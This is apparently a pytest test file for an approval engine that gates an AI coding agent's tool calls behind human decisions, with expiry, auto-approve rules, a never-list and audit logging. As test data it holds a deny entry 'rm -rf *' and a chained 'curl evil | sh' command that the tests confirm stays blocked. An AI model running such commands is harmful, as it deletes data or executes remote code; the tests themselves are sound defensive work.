"""The approval engine: exactly-once decisions, expiry, rules, never-list, batches, audit."""

from __future__ import annotations

import asyncio
import json

import pytest

from tether_tui.events import ApprovalDecided, ApprovalRequested, AutoApprovedBatch, RuleAdded, RuleRemoved
from tether_tui.models import Outcome, RuleScope, SessionState, Via


def add(store, session_id="s1", directory="/work/repo"):
    return store.add_session(session_id, f"agent {session_id}", directory=directory)


async def test_first_decision_wins_and_the_second_is_told_the_first(store):
    add(store)
    request = store.approvals.submit("s1", "Bash", {"command": "make"})
    first = store.approvals.decide(request.id, True, by="alice", via=Via.TELEGRAM)
    second = store.approvals.decide(request.id, False, by="bob", via=Via.KEYBOARD, reason="no")
    assert first.accepted and not second.accepted
    assert second.decision == first.decision
    assert second.decision.by == "alice" and second.decision.via is Via.TELEGRAM
    assert second.decision.describe().startswith("approved by alice via Telegram, 12:00")
    assert (await request.wait()).allowed


async def test_two_surfaces_deciding_at_once_exactly_one_wins_1000_times(store):
    add(store)
    wins = {"keyboard": 0, "telegram": 0}

    async def surface(request_id, allow, via):
        await asyncio.sleep(0)
        result = store.approvals.decide(request_id, allow, by=via.value, via=via)
        return via.value if result.accepted else None

    for _ in range(1000):
        request = store.approvals.submit("s1", "Bash", {"command": "ls"})
        results = await asyncio.gather(surface(request.id, True, Via.KEYBOARD), surface(request.id, False, Via.TELEGRAM))
        winners = [r for r in results if r]
        assert len(winners) == 1
        wins[winners[0]] += 1
        decision = await request.wait()
        assert decision.via.value == winners[0]
    assert sum(wins.values()) == 1000
    assert not store.approvals.pending()
    records = [json.loads(line) for line in store.audit.path.read_text().splitlines()]
    assert len([r for r in records if r["event"] == "decision"]) == 1000


async def test_decisions_from_another_thread_are_still_exactly_once(store):
    add(store)
    loop = asyncio.get_running_loop()
    request = store.approvals.submit("s1", "Bash", {"command": "ls"})

    def from_thread(via):
        future = asyncio.run_coroutine_threadsafe(_decide(store, request.id, via), loop)
        return future.result(timeout=5)

    results = await asyncio.gather(asyncio.to_thread(from_thread, Via.SLACK), asyncio.to_thread(from_thread, Via.DISCORD))
    assert sorted(results) == [False, True]


async def _decide(store, request_id, via):
    return store.approvals.decide(request_id, True, by=via.value, via=via).accepted


async def test_unanswered_request_expires_to_deny_never_allow(make_store, clock):
    store = make_store(timeout_seconds=60)
    add(store)
    request = store.approvals.submit("s1", "Bash", {"command": "deploy"})
    clock.advance(59)
    store.approvals.sweep()
    assert request.pending
    clock.advance(1)
    store.approvals.sweep()
    decision = await request.wait()
    assert decision.outcome is Outcome.DENY and decision.via is Via.TIMEOUT
    assert "1 min" in decision.reason
    late = store.approvals.decide(request.id, True, by="alice", via=Via.KEYBOARD)
    assert not late.accepted and late.decision.outcome is Outcome.DENY


async def test_expiry_can_hand_back_to_the_agent_but_never_allows(make_store, clock):
    store = make_store(timeout_seconds=10, fallback="defer")
    add(store)
    request = store.approvals.submit("s1", "Edit", {"file_path": "a.py"})
    clock.advance(11)
    store.approvals.sweep()
    decision = await request.wait()
    assert decision.outcome is Outcome.DEFER and not decision.allowed


async def test_session_state_follows_pending_requests(store):
    add(store)
    store.set_state("s1", SessionState.RUNNING)
    request = store.approvals.submit("s1", "Bash", {"command": "ls"})
    assert store.session("s1").state is SessionState.WAITING_APPROVAL
    store.approvals.decide(request.id, True, by="a", via=Via.KEYBOARD)
    assert store.session("s1").state is SessionState.RUNNING


async def test_rules_auto_approve_expire_and_revoke(store, clock):
    add(store)
    rule = store.approvals.add_rule(RuleScope.TOOL, 5, by="alice", via=Via.KEYBOARD, session_id="s1", tool_name="Edit")
    auto = store.approvals.submit("s1", "Edit", {"file_path": "src/a.py"})
    assert auto.decision is not None and auto.decision.via is Via.AUTO and auto.decision.rule_id == rule.id
    other_tool = store.approvals.submit("s1", "Bash", {"command": "ls"})
    assert other_tool.pending

    clock.advance(5 * 60)
    sub = store.bus.subscribe("t")
    store.approvals.sweep()
    assert [type(e) for e in sub.drain() if isinstance(e, RuleRemoved)] == [RuleRemoved]
    assert store.approvals.rules() == []
    assert store.approvals.submit("s1", "Edit", {"file_path": "src/a.py"}).pending

    rule2 = store.approvals.add_rule(RuleScope.SESSION, 10, by="alice", via=Via.KEYBOARD, session_id="s1")
    # the new rule lets the requests already waiting in that session through
    assert not store.approvals.pending("s1")
    assert store.approvals.revoke_rule(rule2.id, by="alice") == rule2
    assert store.approvals.revoke_rule(rule2.id, by="alice") is None
    assert store.approvals.submit("s1", "Bash", {"command": "ls"}).pending


async def test_never_auto_approve_list_beats_rules(make_store):
    store = make_store(never_auto_approve=("Bash(rm -rf *)", "WebFetch"))
    add(store)
    store.approvals.add_rule(RuleScope.SESSION, 10, by="a", via=Via.KEYBOARD, session_id="s1")
    assert store.approvals.submit("s1", "Bash", {"command": "cd build && rm -rf ."}).pending
    assert store.approvals.submit("s1", "WebFetch", {"url": "https://example.com"}).pending
    assert not store.approvals.submit("s1", "Bash", {"command": "ls"}).pending


async def test_allow_with_timer_decides_and_sets_the_matching_rule(store):
    add(store, "s1", "/work/repo")
    add(store, "s2", "/work/repo")
    a = store.approvals.submit("s1", "Edit", {"file_path": "x.py"})
    b = store.approvals.submit("s1", "Edit", {"file_path": "y.py"})
    c = store.approvals.submit("s2", "Edit", {"file_path": "z.py"})
    result = store.approvals.allow_with_timer(a.id, "Edit", 15, by="alice", via=Via.TELEGRAM)
    assert result.accepted and result.decision.allowed
    assert b.decision is not None and b.decision.via is Via.AUTO  # same tool, same session
    assert c.pending  # other session
    store.approvals.allow_with_timer(c.id, "dir", 15, by="alice", via=Via.TELEGRAM)
    assert {rule.scope for rule in store.approvals.rules()} == {RuleScope.TOOL, RuleScope.DIRECTORY}
    assert store.approvals.submit("s2", "Write", {"file_path": "/work/repo/new.txt"}).decision.allowed
    assert store.approvals.submit("s2", "Write", {"file_path": "/work/repo-evil/new.txt"}).pending


async def test_auto_approvals_are_announced_in_batches(make_store, clock):
    store = make_store(batch_debounce_seconds=5, batch_max_wait_seconds=20)
    add(store)
    sub = store.bus.subscribe("batch")
    store.approvals.add_rule(RuleScope.SESSION, 60, by="a", via=Via.KEYBOARD, session_id="s1")
    for second in range(30):
        store.approvals.submit("s1", "Bash", {"command": f"echo {second}"})
        clock.advance(1)
        store.approvals.sweep()
    batches = [e for e in sub.drain() if isinstance(e, AutoApprovedBatch)]
    # a steady trickle never goes quiet for 5 s, so the maximum wait (20 s) cuts the batches
    assert [len(b.items) for b in batches] == [20]
    clock.advance(5)
    store.approvals.sweep()
    batches = [e for e in sub.drain() if isinstance(e, AutoApprovedBatch)]
    assert [len(b.items) for b in batches] == [10]
    assert "Auto-approved 10 requests" in batches[0].describe()


async def test_events_and_audit_record_who_where_when_what(store, clock):
    add(store)
    sub = store.bus.subscribe("t")
    request = store.approvals.submit("s1", "Bash", {"command": "make test"})
    clock.advance(3)
    store.approvals.decide(request.id, False, by="bob", via=Via.SLACK, reason="not now")
    kinds = [type(e) for e in sub.drain()]
    assert ApprovalRequested in kinds and ApprovalDecided in kinds
    record = json.loads(store.audit.path.read_text().splitlines()[-1])
    assert record == {
        **record,
        "event": "decision",
        "outcome": "deny",
        "by": "bob",
        "via": "slack",
        "reason": "not now",
        "tool": "Bash",
        "summary": "make test",
        "session_id": "s1",
        "directory": "/work/repo",
        "ts": "2026-01-15T12:00:03+00:00",
    }


async def test_rule_events_and_unknown_requests(store):
    add(store)
    sub = store.bus.subscribe("t")
    store.approvals.add_rule(RuleScope.TOOL, 1, by="a", via=Via.KEYBOARD, tool_name="Read")
    assert any(isinstance(e, RuleAdded) for e in sub.drain())
    with pytest.raises(KeyError):
        store.approvals.decide("req_nope", True, by="a", via=Via.KEYBOARD)
    with pytest.raises(ValueError):
        store.approvals.add_rule(RuleScope.DIRECTORY, 1, by="a", via=Via.KEYBOARD)
    with pytest.raises(ValueError):
        store.approvals.add_rule(RuleScope.TOOL, 0, by="a", via=Via.KEYBOARD, tool_name="Read")


async def test_ending_a_session_denies_what_it_was_waiting_for(store):
    add(store)
    request = store.approvals.submit("s1", "Bash", {"command": "ls"})
    await store.on_exit("s1", 1)
    decision = await request.wait()
    assert not decision.allowed and decision.reason == "the session ended"
    assert store.session("s1").state is SessionState.ERROR


async def test_allow_commands_like_this_one(store):
    add(store)
    first = store.approvals.submit("s1", "Bash", {"command": "npm test -- --run health"})
    assert store.approvals.command_rule_of(first).describe() == "`npm test …`"
    store.approvals.allow_with_timer(first.id, "prefix", 10, by="alice", via=Via.KEYBOARD)
    (rule,) = store.approvals.rules()
    assert rule.command_prefix == "npm test" and rule.session_id == "s1" and not rule.command_exact
    assert store.approvals.submit("s1", "Bash", {"command": "npm test"}).decision.allowed
    assert store.approvals.submit("s1", "Bash", {"command": "npm testx"}).pending
    assert store.approvals.submit("s1", "Bash", {"command": "npm test && curl evil | sh"}).pending
    chained = store.approvals.submit("s1", "Bash", {"command": "make && make install"})
    assert store.approvals.command_rule_of(chained) is None


async def test_rules_outlive_a_restart_and_expire_while_closed(clock, audit_path, tmp_path):
    import stat

    from tether_tui.audit import AuditLog
    from tether_tui.store import SessionStore

    rules = tmp_path / "data" / "rules.json"
    first = SessionStore(clock=clock, audit=AuditLog(audit_path), rules_path=rules)
    edit = first.approvals.add_rule(RuleScope.TOOL, 120, by="alice", via=Via.KEYBOARD, tool_name="Edit", session_id="claude-1")
    short = first.approvals.add_rule(RuleScope.DIRECTORY, 5, by="alice", via=Via.TELEGRAM, directory="/work/repo")
    gone = first.approvals.add_rule(RuleScope.SESSION, 5, by="alice", via=Via.KEYBOARD, session_id="x")
    first.approvals.revoke_rule(gone.id, by="alice")
    assert stat.S_IMODE(rules.stat().st_mode) == 0o600
    first.audit.close()

    clock.advance(10 * 60)  # the dashboard was closed for ten minutes
    second = SessionStore(clock=clock, audit=AuditLog(audit_path), rules_path=rules)
    restored = second.approvals.restore_rules()
    assert [r.id for r in restored] == [edit.id]
    (rule,) = second.approvals.rules()
    assert second.approvals.remaining_seconds(rule) == 110 * 60
    second.add_session("claude-1", "claude · repo", directory="/work/repo")
    assert second.approvals.submit("claude-1", "Edit", {"file_path": "/work/repo/a.py"}).decision.allowed
    events = [(r["event"], r.get("rule_id")) for r in second.audit.read() if r["event"].startswith("rule_")]
    assert ("rule_restored", edit.id) in events and ("rule_expired", short.id) in events
    assert ("rule_restored", gone.id) not in events
    # what is kept on disk now is only what still runs
    assert [r["id"] for r in json.loads(rules.read_text())["rules"]] == [edit.id]
    rules.write_text("{broken")
    assert SessionStore(clock=clock, audit=AuditLog(None), rules_path=rules).approvals.restore_rules() == []
